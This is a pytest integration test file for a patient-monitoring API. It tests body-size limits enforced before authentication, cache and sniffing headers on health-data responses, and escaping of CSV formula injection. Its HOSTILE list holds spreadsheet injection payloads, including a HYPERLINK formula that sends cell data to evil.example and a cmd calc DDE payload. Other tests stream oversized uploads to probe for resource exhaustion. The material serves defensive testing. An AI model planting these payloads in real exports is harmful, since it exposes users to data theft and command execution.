"""API limits and headers (issue 14, item 7), against the real server process (``rpm-cloud api`` under
uvicorn on a free port) where the property is about the server: request bodies are bounded and
authenticated before anything reads them, so anonymous 150 MiB uploads cannot grow the process; PHI
responses are never cached or sniffed; the CSV export cannot carry a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import select
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import httpx
import psycopg
import pytest
from fastapi.testclient import TestClient
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from cloud.api.body_limit import BodyLimitMiddleware
from cloud.api.tokens import TokenVerifier, mint_token
from cloud.embedded import free_port
from cloud.settings import CloudSettings
from tests.cloud.alerts.scripted_patient import add_patient, bp, ingest, now
from tests.cloud.api.conftest import DEV_KEY, World
from tests.e2e.processes import command, running, wait_for

pytestmark = pytest.mark.integration

MIB = 1024 * 1024
SECURITY_HEADERS = {"cache-control": "no-store", "x-content-type-options": "nosniff",
                    "referrer-policy": "no-referrer"}
RSS_CEILING = 150 * 1000 * 1000


@dataclass
class Server:
    port: int
    pid: int
    log: Path
    settings: CloudSettings

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def token(self, role: str = "clinician", **claims: object) -> str:
        return mint_token(self.settings, role=role, sub=f"{role}-limits", **claims)  # type: ignore[arg-type]

    def memory(self, field: str) -> int:
        """``VmRSS`` (now) or ``VmHWM`` (the peak since start) of the server process, in bytes."""
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith(f"{field}:"):
                return int(line.split()[1]) * 1024
        raise AssertionError(f"no {field} in /proc/{self.pid}/status")


@pytest.fixture(scope="module")
def server(database_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    port = free_port()
    log = tmp_path_factory.mktemp("api-limits") / "api.log"
    env = {"RPM_DATABASE_URL": database_url, "RPM_JWT_DEV_KEY": DEV_KEY}
    with running([*command("rpm-cloud"), "api", "--port", str(port), "--log-level", "warning"], env, log) as process:
        def ready() -> bool:
            try:
                return httpx.get(f"http://127.0.0.1:{port}/readyz", timeout=2).status_code == 200
            except httpx.TransportError:
                return False

        wait_for(ready, 60, "rpm-cloud api to answer /readyz", [log])
        yield Server(port, process.pid, log, CloudSettings(database_url=database_url, jwt_dev_key=DEV_KEY))


@dataclass
class Upload:
    status_line: bytes = b""
    response: bytes = b""
    sent: int = 0
    """Body bytes the server let us send before it answered or closed."""
    error: str = ""


def _read_response(sock: socket.socket, wait_s: float) -> bytes:
    """What the server answered within ``wait_s`` (headers and as much body as came)."""
    data = b""
    deadline = time.monotonic() + wait_s
    while time.monotonic() < deadline:
        readable, _, _ = select.select([sock], [], [], max(0.0, deadline - time.monotonic()))
        if not readable:
            break
        try:
            chunk = sock.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        data += chunk
        if b"\r\n\r\n" in data:
            deadline = min(deadline, time.monotonic() + 0.2)  # the body follows at once
    return data


def stream_upload(port: int, path: str, *, total: int, headers: dict[str, str], chunk: int = MIB,
                  answer_wait_s: float = 5.0) -> Upload:
    """POST a chunked body of ``total`` bytes as a raw client would: headers first, a moment for an early
    answer (the server may refuse before reading), then the body chunk by chunk until it is all sent or
    the server closes the connection."""
    upload = Upload()
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    head += "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(head.encode() + b"Transfer-Encoding: chunked\r\n\r\n")
        upload.response = _read_response(sock, answer_wait_s)
        piece = f"{chunk:x}\r\n".encode() + b"[" * chunk + b"\r\n"
        try:
            while upload.sent < total:
                sock.sendall(piece)
                upload.sent += chunk
            sock.sendall(b"0\r\n\r\n")
        except OSError as exc:  # the server closed the connection: it was not reading
            upload.error = type(exc).__name__
        if not upload.response:
            upload.response = _read_response(sock, 30)
    upload.status_line = upload.response.split(b"\r\n", 1)[0]
    return upload


def test_anonymous_150_mib_uploads_are_refused_unread_and_the_server_stays_small(server: Server) -> None:
    before = server.memory("VmRSS")
    results: list[Upload] = [Upload() for _ in range(4)]

    def one(i: int) -> None:
        results[i] = stream_upload(server.port, "/v1/devices/ble:aa:bb/assignments", total=150 * MIB, headers={})

    threads = [threading.Thread(target=one, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    peak = server.memory("VmHWM")
    assert peak < RSS_CEILING, f"peak RSS {peak / MIB:.0f} MiB (before: {before / MIB:.0f} MiB)"
    for upload in results:
        assert upload.status_line.startswith(b"HTTP/1.1 401"), (upload.status_line, upload.sent)
        assert b"application/problem+json" in upload.response
        # Refused on the headers, connection closed: the kernel's buffers take a few MiB, never the 150.
        assert upload.sent < 32 * MIB, f"the server kept reading: {upload.sent} bytes taken ({upload.error})"
    assert httpx.get(f"{server.url}/healthz").status_code == 200


def test_an_invalid_token_is_refused_before_the_body_too(server: Server) -> None:
    upload = stream_upload(server.port, "/v1/care-teams", total=64 * MIB, headers={"Authorization": "Bearer x.y.z"})
    assert upload.status_line.startswith(b"HTTP/1.1 401"), upload.status_line
    assert upload.sent < 32 * MIB


def test_an_authenticated_oversize_body_is_413_on_its_content_length(server: Server) -> None:
    head = (f"POST /v1/care-teams HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {server.token('admin')}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {150 * MIB}\r\n\r\n")
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
        sock.sendall(head.encode())  # and not one byte of the body: the answer must not wait for it
        response = _read_response(sock, 5)
    assert response.startswith(b"HTTP/1.1 413"), response[:200]
    assert b"application/problem+json" in response and b"/problems/payload-too-large" in response
    assert b"no-store" in response.lower()


def test_an_authenticated_chunked_body_is_cut_at_the_limit(server: Server) -> None:
    limit = server.settings.api_max_body_bytes
    # Just past the limit, in small chunks and then the end of the body: the server counts as it reads.
    upload = stream_upload(server.port, "/v1/care-teams", total=limit + 8192, chunk=4096, answer_wait_s=0.2,
                           headers={"Authorization": f"Bearer {server.token('admin')}"})
    assert upload.status_line.startswith(b"HTTP/1.1 413"), upload.response[:300]
    assert b"/problems/payload-too-large" in upload.response


def test_a_body_under_the_limit_is_served(server: Server, unique_id: str) -> None:
    response = httpx.post(f"{server.url}/v1/care-teams", json={"id": f"{unique_id}-t", "name": "x" * 400},
                          headers={"Authorization": f"Bearer {server.token('admin')}"})
    assert response.status_code == 201, response.text


# --- the same limits in process: bodies that arrive without a length ------------------------------------

def test_a_chunked_body_past_the_limit_is_413_and_nothing_is_written(client: TestClient, world: World,
                                                                      conn: psycopg.Connection) -> None:
    patient = world.patients["consented"]
    big = b'{"thresholds": {"systolic": 170}, "note": "' + b"a" * (80 * 1024) + b'"}'
    response = client.put(f"/v1/patients/{patient}/thresholds/bp_crisis", content=iter([big]),
                          headers={**world.headers["clinician"], "Content-Type": "application/json"})
    assert response.status_code == 413, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert conn.execute("SELECT count(*) FROM alert_rule_overrides WHERE patient_id = %s",
                        (patient,)).fetchone() == (0,)


def test_an_anonymous_body_is_401_before_validation(client: TestClient) -> None:
    response = client.post("/v1/care-teams", content=b"not json at all")
    assert response.status_code == 401
    assert response.headers["www-authenticate"] == "Bearer"
    assert response.headers["content-type"].startswith("application/problem+json")


# --- headers on PHI responses ---------------------------------------------------------------------------

def assert_security_headers(response: httpx.Response) -> None:
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, f"{response.request.url}: {name} = {response.headers.get(name)}"


def test_phi_responses_are_not_cached_or_sniffed(client: TestClient, world: World) -> None:
    patient, headers = world.patients["consented"], world.headers["clinician"]
    for path, params, media in [
        (f"/v1/patients/{patient}/readings", None, "application/json"),
        (f"/v1/patients/{patient}/readings", {"format": "csv"}, "text/csv"),
        (f"/v1/patients/{patient}/readings", {"format": "ndjson"}, "application/x-ndjson"),
        (f"/fhir/Patient/{patient}/$everything", None, "application/fhir+json"),
        ("/fhir/Observation", {"patient": patient}, "application/fhir+json"),
        ("/v1/patients", None, "application/json"),
        (f"/v1/patients/{world.patients['other']}", None, "application/problem+json"),
    ]:
        response = client.get(path, params=params, headers=headers)
        assert response.headers["content-type"].startswith(media), (path, response.status_code)
        assert_security_headers(response)
    page = client.get("/ui")
    assert_security_headers(page)
    assert "default-src 'none'" in page.headers["content-security-policy"]


def test_the_real_server_sends_the_headers(server: Server, database_url: str, unique_id: str) -> None:
    patient = f"{unique_id}-hdr"
    with psycopg.connect(database_url, autocommit=True) as conn:
        add_patient(conn, patient)
    token = server.token("patient", patient=patient)
    for path in (f"/v1/patients/{patient}/readings?format=csv", f"/fhir/Patient/{patient}", "/ui"):
        assert_security_headers(httpx.get(f"{server.url}{path}", headers={"Authorization": f"Bearer {token}"}))


# --- CSV export against formula injection -------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tTAB", "\rCR"]


def test_csv_cells_cannot_start_a_formula_but_numbers_stay_numbers(client: TestClient, world: World,
                                                                   conn: psycopg.Connection, unique_id: str) -> None:
    patient = world.patients["consented"]
    models = {}
    for i, model in enumerate(HOSTILE):
        uid = f"=cuff{i}-{unique_id}" if i == 0 else f"ble:{unique_id}:{i}"  # a hostile uid as well
        conn.execute("INSERT INTO devices (uid, transport, profile, model)"
                     " VALUES (%s, 'ble', 'ble.blood_pressure', %s)", (uid, model))
        conn.execute("INSERT INTO device_assignments (device_uid, patient_id) VALUES (%s, %s)", (uid, patient))
        ingest(conn, [bp(uid, now() - timedelta(minutes=30 + i), 120 + i, 80)], patient)
        models[uid] = model
    # A negative value is a number, not a formula: stored as one (the catalogue has no negative metric
    # today, so the stored value is set by hand) and exported as one.
    negative_uid = f"ble:{unique_id}:1"
    conn.execute("UPDATE observations SET value = -3.5 WHERE metric = 'pulse_rate' AND reading_id IN"
                 " (SELECT id FROM readings WHERE device_uid = %s)", (negative_uid,))

    response = client.get(f"/v1/patients/{patient}/readings", params={"format": "csv", "limit": 1000},
                          headers=world.headers["clinician"])
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    mine = [r for r in rows if r["device_uid"].lstrip("'") in models]
    assert len(mine) == 3 * len(HOSTILE)  # systolic, diastolic, pulse each
    for row in mine:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (cell, row)
        uid = row["device_uid"].removeprefix("'")
        assert row["device_model"] == "'" + models[uid], "the text is kept, made inert by one quote"
    assert any(r["device_uid"] == f"'=cuff0-{unique_id}" for r in mine), "a hostile device uid is inert too"
    pulses = [float(r["value"]) for r in mine if r["metric"] == "pulse_rate" and r["device_uid"] == negative_uid]
    assert pulses == [-3.5]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_route_given_a_larger_limit_takes_more_and_only_it() -> None:
    async def size(request: Request) -> JSONResponse:
        return JSONResponse({"bytes": len(await request.body())})

    settings = CloudSettings(database_url="postgresql://nobody@127.0.0.1:1/none", jwt_dev_key=DEV_KEY)
    app = Starlette(routes=[Route("/small", size, methods=["POST"]), Route("/large", size, methods=["POST"])])
    app.add_middleware(BodyLimitMiddleware, max_body_bytes=1000, verifier=TokenVerifier(settings),
                       route_limits={("POST", "/large"): 10_000})
    headers = {"Authorization": f"Bearer {mint_token(settings, role='admin', sub='a')}"}
    with TestClient(app) as test:
        assert test.post("/large", content=b"x" * 5000, headers=headers).json() == {"bytes": 5000}
        assert test.post("/small", content=b"x" * 5000, headers=headers).status_code == 413
        assert test.post("/small", content=iter([b"x" * 600, b"x" * 600]), headers=headers).status_code == 413
        assert test.post("/small", content=b"x" * 1000, headers=headers).json() == {"bytes": 1000}
        assert test.post("/large", content=b"x" * 5000).status_code == 401


@pytest.mark.integration
def test_a_nul_in_a_body_id_is_audited_escaped_not_a_503(client: TestClient, world: World,
                                                         conn: psycopg.Connection) -> None:
    """Found by the OpenAPI fuzzer: a claim naming patient "\\x00" made the audit row unwritable (PostgreSQL
    text refuses NUL), so the answer became "503, the access could not be audited; retry later"."""
    response = client.post("/v1/gateways/claim", json={"code": " ", "patient_id": "\x00"},
                           headers=world.headers["admin"])
    assert response.status_code < 500, response.text
    row = conn.execute("SELECT patient_ids FROM audit_log WHERE request_id = %s",
                       (response.headers["x-request-id"],)).fetchone()
    assert row is not None and row[0] == ["\\x00"]
